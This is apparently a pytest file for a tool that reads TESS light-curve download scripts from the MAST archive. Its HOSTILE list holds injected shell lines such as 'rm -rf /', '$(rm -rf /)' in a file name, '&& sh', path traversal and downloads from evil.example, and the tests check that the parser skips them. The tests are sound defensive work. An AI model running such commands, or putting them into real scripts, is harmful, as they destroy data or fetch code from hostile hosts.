"""The lists of TESS's two-minute light curves, from the archive's download scripts."""

import logging
import socket

import pyarrow.parquet as pq
import pytest
from lightcurves.made_fits import archive_name
from loopback import LoopbackArchive

from lightmill.config.archives import Base
from lightmill.config.network import NetworkSettings
from lightmill.errors import StoreError
from lightmill.lightcurves.archives.sector_scripts import read_script, script_sector
from lightmill.lightcurves.archives.sectors import list_sectors
from lightmill.network.errors import RefusedError, TransientError

STARS = {1: (77, 78, 9_000_000_001), 2: (77,), 27: (78, 79)}
QUICK = {"attempts": 2, "backoff_s": 0.02, "backoff_max_s": 0.05, "read_timeout_s": 0.8, "deadline_s": 5}
ADDRESS = "https://mast.stsci.edu/api/v0.1/Download/file/?uri=mast:TESS/product/"


def touch(archive, number, sector, author="SPOC"):
    name = archive_name("TESS", number, sector, author)
    (archive / name).parent.mkdir(parents=True, exist_ok=True)
    (archive / name).touch()


@pytest.fixture
def archive(tmp_path):
    """A tree of empty files: the server's scripts list their names."""
    for sector, stars in STARS.items():
        for star in stars:
            touch(tmp_path / "archive", star, sector)
    touch(tmp_path / "archive", 77, 2, "SPOC-20s")
    return tmp_path / "archive"


@pytest.fixture
def server(archive):
    with LoopbackArchive(archive) as serving:
        yield serving


class Run:
    """Lists the sectors of servers into one store, and tells what came of it."""

    def __init__(self, folder, *servers, layout="archive"):
        self.store, self.output = folder / "store", folder / "sectors.parquet"
        self.servers = servers
        self.bases = [Base(url=server.url, layout=layout) for server in servers]

    def __call__(self, chosen=None, **network):
        for server in self.servers:
            server.clear()
        self.there = list_sectors(
            self.bases, NetworkSettings(**QUICK, **network), self.store, self.output, chosen=chosen
        )
        return list(zip(*pq.read_table(self.output).to_pydict().values(), strict=True))

    @property
    def kept(self):
        return sorted(path.name for path in (self.store / "sectors").glob("*"))


@pytest.fixture
def run(tmp_path, server):
    return Run(tmp_path, server)


def address(number, sector):
    return ADDRESS + archive_name("TESS", number, sector).rpartition("/")[2]


def rows(*sectors):
    return [(star, sector, address(star, sector)) for sector in sectors for star in STARS[sector]]


def asked(server):
    return [request.path.rpartition("/")[2] or "folder" for request in server.requests()]


def script(sector):
    return f"tesscurl_sector_{sector}_lc.sh"


def test_every_script_is_read_once(run, server, archive):
    assert run() == rows(1, 2, 27)
    assert run.there
    assert asked(server) == ["folder", *(script(sector) for sector in STARS)]
    assert run.kept == ["s0001.parquet", "s0002.parquet", "s0027.parquet"]
    first = run.output.read_bytes()
    schema = pq.read_schema(run.output)
    assert {name: str(schema.field(name).type) for name in schema.names} == {
        "tic": "int64",
        "sector": "int16",
        "url": "string",
    }
    assert schema.metadata[b"lists"] == b"scripts"

    assert run() == rows(1, 2, 27)
    assert asked(server) == ["folder"]
    assert run.output.read_bytes() == first, "the same scripts make the same bytes"

    touch(archive, 80, 28)
    assert run()[-1] == (80, 28, address(80, 28))
    assert asked(server) == ["folder", script(28)]


def test_only_chosen_sectors_are_asked_for_and_listed(run, server):
    assert run({2, 27}) == rows(2, 27)
    assert asked(server) == ["folder", script(2), script(27)]
    assert run({2}) == rows(2)
    assert asked(server) == []
    assert run({99}) == []
    assert run.there, "a sector that has not been does not mean that there are no lists"


def test_without_listing_the_next_numbers_are_asked_for(run, server, archive):
    server.set(index=403)
    assert run() == rows(1, 2)
    assert asked(server) == ["folder", *(script(sector) for sector in (1, 2, 3, 4))]
    touch(archive, 80, 3)
    assert run()[-1] == (80, 3, address(80, 3))
    assert asked(server) == ["folder", *(script(sector) for sector in (3, 4, 5))]
    assert run({27}) == rows(27)
    # Once a later sector is known, every gap before it is asked for.
    run()
    assert asked(server) == ["folder", *(script(sector) for sector in [*range(4, 27), 28, 29])]


@pytest.mark.parametrize("index", [200, 403, 404])
def test_no_scripts_are_told_from_no_rows(run, server, index):
    server.set(index=index, scripts=False)
    assert run() == []
    assert not run.there
    assert pq.read_schema(run.output).metadata[b"lists"] == b"none"


def test_folders_and_buckets_have_no_scripts(tmp_path, archive, server):
    run = Run(tmp_path, server, layout="s3")
    run.bases.append(Base(url=f"file://{archive}"))
    assert run() == []
    assert not run.there
    assert asked(server) == []


def test_a_mirror_that_refuses_what_it_does_not_have_is_one_without_scripts(run, server, caplog):
    server.set(index=403)
    server.fault("download_scripts", 403, count=None)
    assert run() == []
    assert not run.there
    assert "taken for a server without lists of sectors" in caplog.text


def test_offline_what_is_kept_is_all(run, server, monkeypatch, caplog):
    assert run({1}) == rows(1)
    server.clear()

    def refuse(*_):
        raise AssertionError("a connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    with caplog.at_level(logging.WARNING):
        assert run({1, 2}, offline=True) == rows(1)
    assert "offline: 1 sectors are at hand, 1 of those chosen are not; once online, `--forcerun list" in caplog.text
    assert run(offline=True) == rows(1)
    assert run({2}, offline=True) == []
    assert not run.there, "nothing is known of the chosen sector"
    (run.store / "sectors/s0001.parquet").unlink()
    assert run(offline=True) == []
    assert not run.there


@pytest.mark.parametrize(
    "kind", [503, "truncate", "truncate_nolength", "html", "null", "zero", "hang", "reset", "bad_gzip"]
)
def test_a_broken_script_is_asked_for_again_and_never_kept(run, server, kind):
    server.fault(script(2), kind)
    assert run() == rows(1, 2, 27)
    assert asked(server).count(script(2)) == 2

    (run.store / "sectors/s0002.parquet").unlink()
    server.fault(script(2), kind, count=None)
    with pytest.raises(TransientError, match=script(2)):
        run()
    assert run.kept == ["s0001.parquet", "s0027.parquet"]
    server.clear_faults()
    assert run() == rows(1, 2, 27)
    assert asked(server) == ["folder", script(2)]


def test_the_next_base_helps_out(tmp_path, archive, server):
    with LoopbackArchive(archive) as mirror:
        run = Run(tmp_path, mirror, server)
        mirror.fault(script(2), 503, count=None)
        assert run() == rows(1, 2, 27)
        assert asked(server) == ["folder", script(2), script(27)]
        mirror.clear_faults()
        mirror.set(scripts=False)
        (run.store / "sectors/s0001.parquet").unlink()
        assert run() == rows(1, 2, 27)
        # Who cannot say now may have scripts: nothing is written that says there are none.
        run.output.unlink()
        server.fault("/sector/", 503, count=None)
        with pytest.raises(TransientError):
            run()
        assert not run.output.exists()


def test_a_server_that_refuses_is_named(run, server):
    server.fault(script(1), 401, count=None)
    with pytest.raises(RefusedError, match=script(1)):
        run()
    assert asked(server).count(script(1)) == 1


def test_a_damaged_list_is_fetched_again(run, server, caplog):
    assert run() == rows(1, 2, 27)
    first, second, third = (run.store / "sectors" / name for name in run.kept)
    third.write_bytes(first.read_bytes())
    content = bytearray(first.read_bytes())
    content[len(content) // 8] ^= 0x10
    first.write_bytes(content)
    second.write_bytes(b"PAR1")
    with pytest.raises(TransientError, match=r"s0001\.parquet: damaged"):
        run(offline=True)
    caplog.clear()
    with caplog.at_level(logging.WARNING):
        assert run() == rows(1, 2, 27)
    assert caplog.text.count(": damaged (") == 3
    assert "not a list of this sector" in caplog.text
    assert asked(server) == ["folder", script(1), script(2), script(27)]
    first.write_bytes(b"")
    server.set(scripts=False)
    with pytest.raises(TransientError, match=r"s0001\.parquet: damaged"):
        run()


HOSTILE = [
    "curl -C - -L -o {good} {address}{good}; rm -rf /",
    "curl -C - -L -o {good} {address}{good} && sh",
    "curl -C - -L -o ../{good} {address}../{good}",
    "curl -C - -L -o {good} https://evil.example/api/v0.1/Download/file/?uri=mast:TESS/product/{good}",
    "curl -C - -L -o {good} https://mast.stsci.edu.evil.example/api/v0.1/Download/file/?uri=mast:TESS/product/{good}",
    "curl -C - -L -o {good} http://mast.stsci.edu/api/v0.1/Download/file/?uri=mast:TESS/product/{good}",
    "curl -C - -L -o {good} {address}{other}",
    "curl -C - -L -o {wrong_sector} {address}{wrong_sector}",
    "curl -C - -L -o {fast} {address}{fast}",
    "curl -C - -L -o {pixels} {address}{pixels}",
    "curl -C - -L -o $(rm -rf /) {address}$(rm -rf /)",
    "rm -rf /",
    "curl -C - -L -o {wide} {address}{wide}",
    "echo {good} | curl -C - -L -o {good} {address}{good}",
    "curl -C - -L -o {good} {address}{good}\0",
]


def filled(line):
    good = archive_name("TESS", 81, 1).rpartition("/")[2]
    return line.format(
        good=good,
        address=ADDRESS,
        other=good.replace("81", "82"),
        wrong_sector=good.replace("s0001", "s0002"),
        fast=good.replace("s_lc", "a_fast-lc"),
        pixels=good.replace("_lc", "_tp"),
        wide=good.replace("s0001", "s０００1"),
    )


def test_hostile_lines_are_passed_over(run, server, archive, caplog):
    good = archive_name("TESS", 83, 1).rpartition("/")[2]
    line = f"curl -C - -L -o {good} {ADDRESS}{good}"
    text = "#!/bin/sh\n" + "\n".join(map(filled, HOSTILE)) + f"\n{line}\n\n{line}\r\n"
    (archive / "missions/tess/hostile").write_text(text)
    server.fault(script(1), "other_file", path="/missions/tess/hostile")
    with caplog.at_level(logging.WARNING):
        assert run({1}) == [(83, 1, address(83, 1))]
    assert f"{len(HOSTILE)} lines that fetch no light curve of sector 1" in caplog.text


@pytest.mark.parametrize("line", HOSTILE)
def test_a_script_of_hostile_lines_alone_is_no_script(line):
    with pytest.raises(TransientError, match=r"^there: no line"):
        read_script(filled(line) + "\n", 1, "there")


def test_a_script_may_end_without_a_newline_but_not_within_a_line():
    text = "".join(f"curl -C - -L -o {name} {ADDRESS}{name}\n" for name in (
        archive_name("TESS", number, 1).rpartition("/")[2] for number in (81, 82)
    ))  # fmt: skip
    assert read_script(text[:-1], 1, "there").num_rows == 2
    for cut in (2, 10, 80, 130):
        with pytest.raises(TransientError, match="middle of a line"):
            read_script(text[:-cut], 1, "there")
    quoted = text.replace("-C - -L -o", "-f --create-dirs --output").replace(ADDRESS, '"' + ADDRESS)
    assert read_script(quoted.replace("fits\n", 'fits"\n'), 1, "there").num_rows == 2


def test_names_of_scripts():
    names = ["tesscurl_sector_12_lc.sh", "tesscurl_sector_12_fast-lc.sh", "tesscurl_sector_012_lc.sh", "x/../y"]
    assert [script_sector(name) for name in names] == [12, None, None, None]


def test_a_store_that_cannot_be_written_is_named(run):
    (run.store / "sectors").mkdir(parents=True)
    (run.store / "sectors/s0001.parquet").mkdir()
    with pytest.raises(StoreError, match=r"s0001\.parquet"):
        run()
